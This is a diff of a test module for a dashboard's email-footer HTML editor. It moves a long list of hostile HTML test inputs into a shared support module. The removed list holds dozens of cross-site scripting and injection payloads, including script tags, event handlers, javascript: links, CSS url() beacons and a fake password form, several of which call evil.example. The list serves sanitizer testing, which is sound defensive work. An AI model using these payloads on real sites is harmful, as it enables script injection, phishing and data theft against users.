@@ -15,6 +15,7 @@ from dashboard.audit.models import Open, Outcome
 from dashboard.entities.profile import footer
 from dashboard.entities.profile.models import Chosen
 from dashboard.upstream import connection
+from tests.support.hostile_html import PAYLOADS
 from tests.support.markup import CheckedClient, hidden_of
 from tests.support.sandbox import Sandbox
 
@@ -23,89 +24,6 @@ PREVIEW = f"{FOOTER}preview/"
 GET, PATCH = "GET /organizations/mail-footer", "PATCH /organizations/mail-footer"
 NOW = '<p><strong>Kwelgeest Groep</strong><br><a href="https://kwelgeest-groep.example">kwelgeest-groep.example</a></p>'
 NEW = '<p style="color: #345">Kwelgeest <b>Groep</b></p>'
-
-# Nothing in here may run, load, send or leave the page, in what is saved and in what is shown.
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    '<img src=x onerror="alert(1)">',
-    "<img src=`javascript:alert(1)`>",
-    '<img src="javascript:alert(1)">',
-    '<img """><script>alert("x")</script>">',
-    "<img src=http://evil.example/x.png>",
-    "<img src=//evil.example/x.png>",
-    "<img srcset='https://evil.example/x 2x'>",
-    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="jAvAsCrIpT:alert(1)">x</a>',
-    '<a href="java\tscript:alert(1)">x</a>',
-    '<a href="java&#10;script:alert(1)">x</a>',
-    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
-    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
-    '<a href=" \x01javascript:alert(1)">x</a>',
-    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>',
-    '<a href="//evil.example">x</a>',
-    '<a href="/accounts/logout/">x</a>',
-    '<a href="https://x.example" onclick="alert(1)" onmouseover=alert(1) ping="https://evil.example">x</a>',
-    '<a href="https://x.example" target="_top">x</a>',
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
-    '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></svg>',
-    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
-    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-    "<math href=\"javascript:alert(1)\">x</math>",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "<style>body{background:url(https://evil.example/x)}</style>",
-    "<style>@import 'https://evil.example/x.css';</style>",
-    '<link rel="stylesheet" href="https://evil.example/x.css">',
-    '<link rel="dns-prefetch" href="//evil.example">',
-    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    '<base href="https://evil.example/">',
-    '<iframe src="https://evil.example"></iframe>',
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    '<object data="https://evil.example/x.swf"></object>',
-    '<embed src="https://evil.example/x.swf">',
-    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
-    '<button formaction="javascript:alert(1)">x</button>',
-    '<input autofocus onfocus=alert(1)>',
-    '<details open ontoggle=alert(1)>x</details>',
-    '<video poster="https://evil.example/x.png"><source onerror=alert(1)></video>',
-    '<audio src="https://evil.example/x.mp3" autoplay></audio>',
-    '<body onload=alert(1) background="https://evil.example/x.png">',
-    '<table background="https://evil.example/x.png"><tr><td background="javascript:alert(1)">x</td></tr></table>',
-    '<p style="background:url(https://evil.example/x.png)">x</p>',
-    '<p style="background-image:url(\'https://evil.example/x\')">x</p>',
-    '<p style="background:u\\rl(https://evil.example/x)">x</p>',
-    '<p style="background:/**/url(//evil.example/x)">x</p>',
-    '<p style="background:image-set(\'https://evil.example/x\' 1x)">x</p>',
-    '<p style="width:expression(alert(1))">x</p>',
-    '<p style="-moz-binding:url(https://evil.example/x.xml#x);behavior:url(#default#time2)">x</p>',
-    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>',
-    '<p style="color:red;}body{background:url(https://evil.example/x)}">x</p>',
-    '<p style="font-family:\'a;background:url(https://evil.example/x)\'">x</p>',
-    '<p style="list-style:url(https://evil.example/x)">x</p>',
-    '<p style="color:var(--x,url(https://evil.example/x))">x</p>',
-    "<p id=main class=problem hidden>x</p>",
-    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml-stylesheet href='https://evil.example/x.css'?>",
-    "<template><script>alert(1)</script></template>",
-    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
-    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
-    "<select><template><style><!--</style><a rel='--></style></template></select><img id=x src=x onerror=alert(1)>'>",
-    "<p/onclick=alert(1)//x>x</p>",
-    "<a/href=javascript:alert(1)>x</a>",
-    "<img/src='x'/onerror='alert(1)'",
-    "<div title=\"`><img src=x onerror=alert(1)>\">x</div>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<p hx-get=\"/people/\" hx-trigger=load data-copy=x>x</p>",
-    "\u003cscript\u003ealert(1)\u003c/script\u003e",
-    "<\x00script>alert(1)</script>",
-]  # fmt: skip
 
 
 class Tags(HTMLParser):
